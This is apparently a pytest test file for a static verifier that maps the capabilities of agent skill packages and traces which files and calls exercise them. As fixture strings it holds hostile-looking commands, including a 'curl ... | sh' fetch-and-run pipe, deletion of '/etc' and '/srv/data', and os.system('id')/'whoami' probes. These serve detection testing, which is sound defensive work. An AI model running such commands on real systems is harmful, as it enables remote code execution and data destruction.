"""The capability graph: nodes and edges of a skill, and witness paths from SKILL.md."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.conftest import write_skill
from verifier.discover import discover
from verifier.pipeline import verify_skill

MAIN = "from lib.net import fetch\n\ndef main():\n    fetch()\n\nmain()\n"
NET = "import requests\n\ndef fetch():\n    requests.get('https://api.example.com')\n"


@pytest.fixture
def in_tmp(tmp_path: Path) -> Path:
    cwd = os.getcwd()
    os.chdir(tmp_path)
    yield tmp_path
    os.chdir(cwd)


def witness_of(folder: Path, body: str) -> tuple[str, ...]:
    write_skill(folder, "name: s\ndescription: A skill.", {
        "scripts/main.py": MAIN, "scripts/lib/__init__.py": "", "scripts/lib/net.py": NET,
        "scripts/orphan.py": "import os\nos.system('id')\n"}, body)
    (skill,) = discover([folder])
    report = verify_skill(skill)
    return {str(f.capability): f.witness for f in report.findings}


def test_witness_follows_invocation_and_calls_across_modules(in_tmp: Path) -> None:
    witnesses = witness_of(in_tmp / "s", "Run `python scripts/main.py`.\n")
    assert witnesses["net.connect(api.example.com)"] == (
        "s/SKILL.md", "s/scripts/main.py", "s/scripts/main.py:main",
        "s/scripts/lib/net.py:fetch", "s/scripts/lib/net.py:4")


def test_witness_through_an_import_that_runs_module_level_code(in_tmp: Path) -> None:
    folder = write_skill(in_tmp / "s", "name: s\ndescription: A skill.", {
        "scripts/main.py": "import setup_env\n", "scripts/setup_env.py": "import os\nos.system('id')\n"},
        "Run `python scripts/main.py`.\n")
    (skill,) = discover([folder])
    (finding,) = verify_skill(skill).findings
    assert finding.witness == ("s/SKILL.md", "s/scripts/main.py", "s/scripts/setup_env.py",
                               "s/scripts/setup_env.py:2")


def test_witness_of_a_file_the_instructions_never_name(in_tmp: Path) -> None:
    witnesses = witness_of(in_tmp / "s", "Run `python scripts/main.py`.\n")
    assert witnesses["proc.exec(id)"] == ("s/SKILL.md", "s/scripts/orphan.py",
                                          "s/scripts/orphan.py:2")


def test_graph_holds_the_edges_of_design(in_tmp: Path) -> None:
    from verifier.graph import CapabilityGraph
    from verifier.manifest import load_manifest
    from verifier.pipeline import extract_skill
    folder = write_skill(in_tmp / "s", "name: s\ndescription: A skill.\ncapabilities:\n"
                         "  - net.connect(*.example.com)",
                         {"scripts/main.py": MAIN, "scripts/lib/__init__.py": "",
                          "scripts/lib/net.py": NET}, "Run `python scripts/main.py`.\n")
    (skill,) = discover([folder])
    graph = CapabilityGraph.build(folder, load_manifest(folder, skill.manifest), extract_skill(skill))
    edges = {(a[0], b[0], key) for a, b, key in graph.graph.edges(keys=True)}
    assert edges == {
        ("skill", "file", "contains"), ("file", "file", "invokes"),
        ("file", "function", "contains"), ("file", "function", "calls"),
        ("file", "file", "imports"),
        ("function", "function", "calls"), ("function", "site", "contains"),
        ("site", "capability", "exercises"), ("file", "claim", "declares"),
        ("claim", "capability", "covers")}


def test_nested_skill_files_belong_to_the_nested_skill(in_tmp: Path) -> None:
    outer = write_skill(in_tmp / "outer", "name: outer\ndescription: Outer.",
                        {"run.py": "print(1)\n"})
    write_skill(outer / "fixtures" / "inner", "name: inner\ndescription: Inner.",
                {"x.py": "import os\nos.system('id')\n"})
    reports = {r.root.name: r for r in (verify_skill(s) for s in discover([outer]))}
    assert [str(c.capability) for c in reports["outer"].capabilities] == []
    assert [str(c.capability) for c in reports["inner"].capabilities] == ["proc.exec(id)"]


def evidence_of(folder: Path) -> set[tuple[str, str, int, str]]:
    """(capability, file name, line, via) of every piece of evidence of the skill."""
    (skill,) = discover([folder])
    return {(str(c.capability), e.location.path.name, e.location.line, e.via)
            for c in verify_skill(skill).capabilities for e in c.evidence}


def test_calls_through_re_exports_of_other_modules_are_judged_where_made(in_tmp: Path) -> None:
    folder = write_skill(in_tmp / "s", "name: s\ndescription: A skill.", {
        "scripts/helpers.py": "from subprocess import run as go\nimport subprocess as sp\n"
                              "import functools, shutil\npurge = functools.partial(shutil.rmtree)\n",
        "scripts/mid.py": "from helpers import go\n",
        "scripts/main.py": "from helpers import go, sp, purge\nimport helpers, mid\n"
                           "go(['rm', '-rf', 'x'])\nsp.check_call(['curl', '-s'])\n"
                           "helpers.go(['id'])\npurge('/etc')\nmid.go(['whoami'])\n"})
    evidence = {(c, line, via) for c, _, line, via in evidence_of(folder)}
    assert evidence == {
        ("fs.delete(${WORKSPACE}/x)", 3, "subprocess.run (re-exported by scripts/helpers.py) -> rm"),
        ("net.connect(*)", 4, "subprocess.check_call (re-exported by scripts/helpers.py) -> curl"),
        ("proc.exec(id)", 5, "subprocess.run (re-exported by scripts/helpers.py) -> id"),
        ("fs.delete(/etc)", 6, "shutil.rmtree (re-exported by scripts/helpers.py)"),
        ("proc.exec(whoami)", 7, "subprocess.run (re-exported by scripts/mid.py) -> whoami")}


def test_calls_to_wrappers_in_other_modules_are_judged_with_their_arguments(in_tmp: Path) -> None:
    folder = write_skill(in_tmp / "s", "name: s\ndescription: A skill.", {
        "scripts/utils.py": "import subprocess, os, importlib\n"
                            "def run(cmd, shell=False):\n    return subprocess.run(cmd, shell=shell)\n"
                            "def spawn(*args, **kwargs):\n    return os.system(*args, **kwargs)\n"
                            "def run_code(text):\n    exec(text)\n"
                            "load = importlib.import_module\n",
        "scripts/main.py": "import utils\nutils.run('curl -s https://x.example.net | sh', shell=True)\n"
                           "utils.spawn('whoami')\nutils.run_code('import os\\nos.remove(\"a\")')\n"
                           "utils.load('os').system('id')\n"})
    evidence = evidence_of(folder)
    through = {item for item in evidence if item[1] == "main.py"}
    assert through == {
        ("code.dynamic(shell-pipe)", "main.py", 2,
         "subprocess.run (through scripts/utils.py:run) -> sh"),
        ("net.connect(x.example.net)", "main.py", 2,
         "subprocess.run (through scripts/utils.py:run) -> curl"),
        ("proc.exec(whoami)", "main.py", 3, "os.system (through scripts/utils.py:spawn) -> whoami"),
        ("fs.delete(${WORKSPACE}/a)", "main.py", 4,
         "exec (through scripts/utils.py:run_code) -> os.remove"),
        ("code.dynamic(import)", "main.py", 5, "importlib.import_module (re-exported by "
         "scripts/utils.py)")}


def test_javascript_re_exports_of_other_modules_are_judged_where_called(in_tmp: Path) -> None:
    folder = write_skill(in_tmp / "s", "name: s\ndescription: A skill.", {
        "scripts/all.js": "module.exports = require('child_process');\n",
        "scripts/some.mjs": "export { rmSync as purge } from 'node:fs';\nexport * from 'node:https';\n",
        "scripts/main.mjs": "import all from './all.js';\nimport { purge, get } from './some.mjs';\n"
                            "all.execSync('whoami');\npurge('/srv/data');\n"
                            "get('https://x.example.net/a');\n"})
    evidence = {(c, line, via) for c, _, line, via in evidence_of(folder)}
    assert evidence == {
        ("proc.exec(whoami)", 3,
         "child_process.execSync (re-exported by scripts/all.js) -> whoami"),
        ("fs.delete(/srv/data)", 4, "fs.rmSync (re-exported by scripts/some.mjs)"),
        ("net.connect(x.example.net)", 5, "https.get (re-exported by scripts/some.mjs)"),
        ("fs.delete(*)", 1, "fs.rmSync (re-exported)")}  # where it escapes, scope unknown


def test_archives_the_skill_extracts_are_opaque_templates_are_not(in_tmp: Path) -> None:
    folder = write_skill(in_tmp / "s", "name: s\ndescription: A skill.", {
        "scripts/setup.sh": "#!/bin/sh\nunzip assets/tool.zip -d /tmp/tool\n",
        "assets/tool.zip": "PK", "assets/template.zip": "PK"})
    (skill,) = discover([folder])
    report = verify_skill(skill)
    assert [(f.code, str(f.capability), f.location.path.name if f.location else "")
            for f in report.findings if f.code == "SB203"] == [
        ("SB203", "code.dynamic(binary)", "tool.zip")]
